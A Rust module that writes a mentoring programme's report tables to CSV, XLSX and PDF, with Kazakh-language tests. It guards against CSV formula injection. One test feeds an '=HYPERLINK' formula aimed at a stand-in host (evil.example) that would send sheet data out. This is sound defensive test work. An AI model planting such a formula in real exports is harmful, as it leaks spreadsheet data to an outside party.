//! A report's tables as files: CSV (one line per cell), XLSX (a sheet per table, each with a
//! native bar chart) and PDF (tables and the same SVG bar charts the dashboard shows). Fonts:
//! DejaVu Sans, embedded, for Cyrillic and the Kazakh letters.

use std::sync::{Arc, LazyLock};

use domain::reports::{Cell, Table, chart};
use krilla::Document;
use krilla::color::rgb;
use krilla::geom::{Point, Size};
use krilla::page::PageSettings;
use krilla::paint::Fill;
use krilla::surface::Surface;
use krilla::text::{Font, TextDirection};
use krilla_svg::{SurfaceExt, SvgSettings};

/// What the first lines of every file say.
pub struct Heading {
    pub title: String,
    pub tenant: String,
    pub period: String,
    pub generated: String,
    pub note: String,
    pub language: String,
}

/// One line per cell: section, row, column, value (suppressed cells as `<5`).
pub fn csv(h: &Heading, tables: &[Table]) -> anyhow::Result<Vec<u8>> {
    let mut w = csv::Writer::from_writer(Vec::new());
    w.write_record(
        [&h.title, &h.tenant, &h.period, &h.generated].map(|f| as_text(f).into_owned()),
    )?;
    w.write_record(["section", "row", "column", "value"])?;
    for t in tables {
        for r in &t.rows {
            for (i, c) in r.cells.iter().enumerate() {
                let column = t.columns.get(i + 1).map_or("", String::as_str);
                let value = c.display();
                w.write_record(
                    [t.key.as_str(), &r.label, column, &value].map(|f| as_text(f).into_owned()),
                )?;
            }
        }
    }
    Ok(w.into_inner()?)
}

/// A CSV field that a spreadsheet shows as text. Names come from people (a region, an
/// institution, a tenant): one starting with `=`, `+`, `-`, `@`, a tab or a carriage return
/// would run as a formula (`=HYPERLINK(…)` sending the sheet's data away) when a funder opens
/// the file in Excel. A leading apostrophe is the spreadsheets' own "this is text" mark (OWASP's
/// advice for CSV injection).
fn as_text(field: &str) -> std::borrow::Cow<'_, str> {
    if field.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{field}").into()
    } else {
        field.into()
    }
}

/// A sheet per table, numbers as numbers, suppressed cells as the text `<5`, and a bar chart of
/// the chart column beside the table.
pub fn xlsx(h: &Heading, tables: &[Table]) -> anyhow::Result<Vec<u8>> {
    use rust_xlsxwriter::{Chart, ChartType, Format, Workbook};
    let mut book = Workbook::new();
    let bold = Format::new().set_bold();
    let summary = book.add_worksheet();
    summary.set_name("report")?;
    for (i, line) in [&h.title, &h.tenant, &h.period, &h.generated, &h.note]
        .into_iter()
        .enumerate()
    {
        summary.write_string(i as u32, 0, line.as_str())?;
    }
    summary.set_column_width(0, 60)?;
    for t in tables {
        let sheet = book.add_worksheet();
        sheet.set_name(t.key.as_str())?;
        sheet.write_string_with_format(0, 0, t.title.as_str(), &bold)?;
        for (c, heading) in t.columns.iter().enumerate() {
            sheet.write_string_with_format(2, c as u16, heading.as_str(), &bold)?;
        }
        for (r, row) in t.rows.iter().enumerate() {
            let at = 3 + r as u32;
            if row.total {
                sheet.write_string_with_format(at, 0, row.label.as_str(), &bold)?;
            } else {
                sheet.write_string(at, 0, row.label.as_str())?;
            }
            for (c, cell) in row.cells.iter().enumerate() {
                let col = 1 + c as u16;
                match cell {
                    Cell::Count(n) => sheet.write_number(at, col, *n as f64)?,
                    Cell::Percent(n) => sheet.write_number(at, col, f64::from(*n) / 100.0)?,
                    Cell::Days(n) => sheet.write_number(at, col, f64::from(*n))?,
                    other => sheet.write_string(at, col, other.display())?,
                };
            }
        }
        sheet.set_column_width(0, 40)?;
        let body = t.rows.iter().filter(|r| !r.total).count() as u32;
        if let (Some(c), true) = (t.chart_column, body > 0) {
            let mut chart = Chart::new(ChartType::Bar);
            chart
                .add_series()
                .set_name(t.columns.get(c + 1).map_or("", String::as_str))
                .set_categories((t.key.as_str(), 3, 0, 2 + body, 0))
                .set_values((t.key.as_str(), 3, 1 + c as u16, 2 + body, 1 + c as u16));
            chart.title().set_name(t.title.as_str());
            chart.legend().set_hidden();
            sheet.insert_chart(4 + t.rows.len() as u32, 0, &chart)?;
        }
    }
    Ok(book.save_to_buffer()?)
}

static REGULAR: LazyLock<Option<Font>> =
    LazyLock::new(|| Font::new(dejavu::sans::regular().into(), 0));
static BOLD: LazyLock<Option<Font>> = LazyLock::new(|| Font::new(dejavu::sans::bold().into(), 0));
/// The charts' SVG names "DejaVu Sans"; only it is loaded, so no system font is needed.
static SVG_OPTIONS: LazyLock<usvg::Options<'static>> = LazyLock::new(|| {
    let mut fonts = usvg::fontdb::Database::new();
    fonts.load_font_data(dejavu::sans::regular().to_vec());
    fonts.load_font_data(dejavu::sans::bold().to_vec());
    fonts.set_sans_serif_family("DejaVu Sans");
    usvg::Options {
        fontdb: Arc::new(fonts),
        font_family: "DejaVu Sans".into(),
        ..Default::default()
    }
});

const PAGE_W: f32 = 595.0;
const PAGE_H: f32 = 842.0;
const MARGIN: f32 = 42.0;
const LINE: f32 = 15.0;

/// Writes lines top to bottom, starting a new page when the next block does not fit.
struct Writer {
    doc: Document,
    pages: Vec<Vec<Op>>,
    y: f32,
}

enum Op {
    Text {
        x: f32,
        y: f32,
        size: f32,
        bold: bool,
        text: String,
    },
    Svg {
        y: f32,
        tree: Box<usvg::Tree>,
        w: f32,
        h: f32,
    },
}

impl Writer {
    fn need(&mut self, height: f32) {
        if self.pages.is_empty() || self.y + height > PAGE_H - MARGIN {
            self.pages.push(Vec::new());
            self.y = MARGIN;
        }
    }
    fn text(&mut self, x: f32, size: f32, bold: bool, text: &str) {
        self.need(size * 1.4);
        let y = self.y + size;
        if let Some(page) = self.pages.last_mut() {
            page.push(Op::Text {
                x,
                y,
                size,
                bold,
                text: text.to_string(),
            });
        }
    }
    /// A paragraph, wrapped at spaces to the page's width.
    fn line(&mut self, size: f32, bold: bool, text: &str) {
        let per_line = ((PAGE_W - 2.0 * MARGIN) / (size * 0.56)) as usize;
        for part in wrap(text, per_line.max(20)) {
            self.text(MARGIN, size, bold, &part);
            self.y += size * 1.5;
        }
    }
}

/// Splits `text` into lines of at most `width` characters, at spaces where it can.
fn wrap(text: &str, width: usize) -> Vec<String> {
    let mut lines = Vec::new();
    let mut current = String::new();
    for word in text.split_whitespace() {
        let len = current.chars().count();
        if len > 0 && len + 1 + word.chars().count() > width {
            lines.push(std::mem::take(&mut current));
        }
        if !current.is_empty() {
            current.push(' ');
        }
        current.push_str(word);
    }
    if !current.is_empty() || lines.is_empty() {
        lines.push(current);
    }
    lines
}

fn fit(text: &str, chars: usize) -> String {
    if text.chars().count() <= chars {
        text.to_string()
    } else {
        let cut: String = text.chars().take(chars.saturating_sub(1)).collect();
        format!("{cut}…")
    }
}

fn draw(surface: &mut Surface<'_>, ops: &[Op]) {
    surface.set_fill(Some(Fill {
        paint: rgb::Color::new(20, 20, 20).into(),
        ..Default::default()
    }));
    for op in ops {
        match op {
            Op::Text {
                x,
                y,
                size,
                bold,
                text,
            } => {
                let font = if *bold { &*BOLD } else { &*REGULAR };
                if let Some(font) = font {
                    surface.draw_text(
                        Point::from_xy(*x, *y),
                        font.clone(),
                        *size,
                        text,
                        false,
                        TextDirection::Auto,
                    );
                }
            }
            Op::Svg { y, tree, w, h } => {
                if let Some(size) = Size::from_wh(*w, *h) {
                    surface.push_transform(&krilla::geom::Transform::from_translate(MARGIN, *y));
                    surface.draw_svg(tree, size, SvgSettings::default());
                    surface.pop();
                }
            }
        }
    }
}

/// The report as a PDF: a heading, then each table with its chart.
pub fn pdf(h: &Heading, tables: &[Table]) -> anyhow::Result<Vec<u8>> {
    let mut w = Writer {
        doc: Document::new(),
        pages: Vec::new(),
        y: MARGIN,
    };
    w.line(18.0, true, &h.title);
    w.line(12.0, false, &h.tenant);
    w.line(12.0, false, &h.period);
    w.line(9.0, false, &h.generated);
    w.line(9.0, false, &h.note);
    w.y += LINE;
    let usable = PAGE_W - 2.0 * MARGIN;
    for t in tables {
        // A table's title stays with its first rows.
        w.need(LINE * 4.0);
        w.line(13.0, true, &t.title);
        let cells = t.columns.len().saturating_sub(1).max(1) as f32;
        let label_w = if cells > 3.0 { 170.0 } else { 260.0 };
        let cell_w = (usable - label_w) / cells;
        let chars = (cell_w / 5.5) as usize;
        let label_chars = (label_w / 5.2) as usize;
        w.need(LINE * 2.0);
        for (i, heading) in t.columns.iter().enumerate() {
            let x = if i == 0 {
                MARGIN
            } else {
                MARGIN + label_w + (i - 1) as f32 * cell_w
            };
            let width = if i == 0 { label_chars } else { chars };
            w.text(x, 8.5, true, &fit(heading, width));
        }
        w.y += LINE;
        for r in &t.rows {
            w.need(LINE);
            w.text(MARGIN, 9.5, r.total, &fit(&r.label, label_chars));
            for (i, c) in r.cells.iter().enumerate() {
                w.text(
                    MARGIN + label_w + i as f32 * cell_w,
                    9.5,
                    r.total,
                    &c.display(),
                );
            }
            w.y += LINE;
        }
        if let Some(svg) = chart::svg(t)
            && let Ok(tree) = usvg::Tree::from_str(&svg, &SVG_OPTIONS)
        {
            let scale = usable / tree.size().width();
            let height = tree.size().height() * scale;
            w.y += 6.0;
            w.need(height);
            let y = w.y;
            if let Some(page) = w.pages.last_mut() {
                page.push(Op::Svg {
                    y,
                    tree: Box::new(tree),
                    w: usable,
                    h: height,
                });
            }
            w.y += height;
        }
        w.y += LINE * 1.5;
    }
    let pages = std::mem::take(&mut w.pages);
    for ops in &pages {
        let settings =
            PageSettings::from_wh(PAGE_W, PAGE_H).ok_or_else(|| anyhow::anyhow!("page size"))?;
        let mut page = w.doc.start_page_with(settings);
        let mut surface = page.surface();
        draw(&mut surface, ops);
        surface.finish();
        page.finish();
    }
    w.doc.set_metadata(
        krilla::metadata::Metadata::new()
            .title(h.title.clone())
            .language(h.language.clone()),
    );
    w.doc.finish().map_err(|e| anyhow::anyhow!("PDF: {e:?}"))
}

#[cfg(test)]
mod tests {
    use super::*;
    use domain::Locale;
    use domain::reports::{CohortFigures, Figures, FunnelStep, Period, RegionActivity};

    fn sample() -> (Heading, Vec<Table>) {
        let d = |m, day| chrono::NaiveDate::from_ymd_opt(2026, m, day).unwrap();
        let f = Figures {
            period: Period::month_before(d(11, 1)),
            regions: vec!["Алматы".into(), "Қарағанды".into()],
            funnel: FunnelStep::all()
                .into_iter()
                .enumerate()
                .map(|(i, s)| (s, vec![40 - 4 * i as u64, 12 - i as u64]))
                .collect(),
            documents_rejected: vec![("pdf_encrypted".into(), 7), ("empty".into(), 2)],
            cohorts: vec![CohortFigures {
                title: "Тәлімгерлер мектебі, күз".into(),
                starts_on: d(10, 5),
                enrolled: 24,
                completed: 21,
            }],
            active_mentors: 31,
            activity: vec![
                RegionActivity {
                    meetings: 120,
                    pairs: 30,
                    pairs_on_track: 26,
                    children_waiting: 9,
                    waiting_days: 400,
                    ..Default::default()
                },
                RegionActivity {
                    meetings: 14,
                    group_sessions: 6,
                    pairs: 6,
                    pairs_on_track: 5,
                    groups: 3,
                    children_waiting: 3,
                    waiting_days: 100,
                },
            ],
            closures: vec![(domain::matching::CloseReason::TermCompleted, 6)],
            concerns: vec![(domain::support::Severity::High, 5, 5)],
        };
        let l = Locale::Kk;
        let heading = Heading {
            title: l.t("report-kind-monthly"),
            tenant: "Ustaz Алматы".into(),
            period: f.period.label(),
            generated: "01.11.2026".into(),
            note: l.t("report-suppression-note"),
            language: "kk".into(),
        };
        (heading, f.tables(l))
    }

    #[test]
    fn long_lines_wrap_at_spaces() {
        assert_eq!(wrap("one two three four", 9), ["one two", "three", "four"]);
        assert_eq!(wrap("", 9), [""]);
        assert_eq!(
            wrap("averyveryverylongword x", 5),
            ["averyveryverylongword", "x"]
        );
    }

    #[test]
    fn the_three_files_are_written_in_kazakh_with_charts() {
        let (h, tables) = sample();
        let pdf = pdf(&h, &tables).unwrap();
        assert!(pdf.starts_with(b"%PDF-"));
        // Each table's chart is drawn: the bars are filled paths (`re … f` or `… f`), and the
        // embedded DejaVu subset carries the Kazakh letters.
        assert!(pdf.len() > 20_000, "{} bytes", pdf.len());
        if let Ok(path) = std::env::var("USTAZ_SAMPLE_REPORT") {
            std::fs::write(path, &pdf).unwrap();
        }
        let xlsx = xlsx(&h, &tables).unwrap();
        assert!(xlsx.starts_with(b"PK"));
        let csv = String::from_utf8(csv(&h, &tables).unwrap()).unwrap();
        assert!(csv.contains("funnel,Берілген өтінімдер,Алматы,40"), "{csv}");
        // 2 empty files: suppressed.
        assert!(csv.contains("documents,Бос файл,Құжаттар,<5"), "{csv}");
    }

    /// A region an admin named `=HYPERLINK(…)` is text in the CSV a funder opens in Excel,
    /// not a formula; so is every other field starting with a formula character.
    #[test]
    fn csv_fields_that_look_like_formulas_are_written_as_text() {
        let (mut h, mut tables) = sample();
        h.tenant = "@SUM(A1:A9)".into();
        let t = &mut tables[0];
        t.rows[0].label = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Алматы\")".into();
        t.rows[1].label = "+1".into();
        t.rows[2].label = "-2+3".into();
        t.rows[3].label = "\tTab".into();
        let csv = csv(&h, &tables).unwrap();
        let mut r = ::csv::ReaderBuilder::new()
            .has_headers(false)
            .flexible(true)
            .from_reader(csv.as_slice());
        let fields: Vec<String> = r
            .records()
            .flat_map(|rec| rec.unwrap().iter().map(String::from).collect::<Vec<_>>())
            .collect();
        for f in &fields {
            assert!(
                !f.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a field a spreadsheet would run: {f:?}"
            );
        }
        assert!(fields.contains(&"'@SUM(A1:A9)".to_string()), "{fields:?}");
        assert!(
            fields.iter().any(|f| f.starts_with("'=HYPERLINK(")),
            "{fields:?}"
        );
        assert!(fields.contains(&"'-2+3".to_string()), "{fields:?}");
        // Ordinary names are untouched.
        assert!(fields.contains(&"Алматы".to_string()), "{fields:?}");
    }
}
